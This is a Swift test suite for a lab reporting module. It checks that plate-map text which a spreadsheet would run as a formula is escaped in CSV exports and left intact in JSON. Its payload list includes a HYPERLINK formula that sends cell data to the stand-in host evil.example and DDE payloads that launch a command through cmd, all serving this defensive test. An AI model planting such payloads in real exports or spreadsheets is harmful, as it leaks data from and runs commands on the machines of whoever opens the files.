import Foundation
import Testing
@testable import Reporting
import Screening

/// Plate-map text that a spreadsheet would run as a formula is neutralised in CSV output, and only there
/// (issue 13 item 4, OWASP's CSV injection rule).
@Suite struct CSVInjectionTests {
    static let payloads = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
                           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]

    func report(treatments: [String], plate: String = "PLATE-1") -> CampaignReport {
        var wells = SampleCampaign.doseResponsePlates(plates: [plate])
        for (index, treatment) in treatments.enumerated() { wells[1 + index].treatment = treatment }
        return ReportBuilder.build(campaign: SampleCampaign.info(), wells: wells)
    }

    @Test func formulaCellsGetALeadingQuote() {
        for payload in Self.payloads {
            let escaped = CSVRenderer.escape(payload)
            let unquoted = escaped.hasPrefix("\"") ? String(escaped.dropFirst()) : escaped
            #expect(unquoted.hasPrefix("'"), "\(payload.debugDescription) → \(escaped.debugDescription)")
        }
    }

    @Test func numbersAndPlainTextAreUnchanged() {
        for plain in ["-0.25", "-1e-3", "+1", "0.5", "Acyclovir", "HSV-1", "a=b", "", "-", "µM"] {
            let expected = plain == "-" ? "'-" : plain
            #expect(CSVRenderer.escape(plain) == expected, "\(plain)")
        }
    }

    @Test func reportCSVNeverStartsACellWithAFormulaButJSONKeepsTheText() throws {
        let report = report(treatments: Self.payloads)
        let files = CSVRenderer.render(report)
        for (name, text) in files {
            for line in text.split(separator: "\r\n") {
                for cell in line.split(separator: ",", omittingEmptySubsequences: false) {
                    let value = cell.hasPrefix("\"") ? cell.dropFirst() : cell[...]
                    guard let first = value.unicodeScalars.first, "=+-@\t\r".unicodeScalars.contains(first) else { continue }
                    #expect(Double(value) != nil, "\(name): cell \(cell.debugDescription) starts a formula")
                }
            }
        }
        let decoded = try JSONSerialization.jsonObject(with: try JSONRenderer.render(report)) as? [String: Any]
        let wells = try #require(decoded?["wells"] as? [[String: Any]])
        let treatments = Set(wells.compactMap { $0["treatment"] as? String })
        for payload in Self.payloads { #expect(treatments.contains(payload), "JSON lost \(payload.debugDescription)") }
    }
}
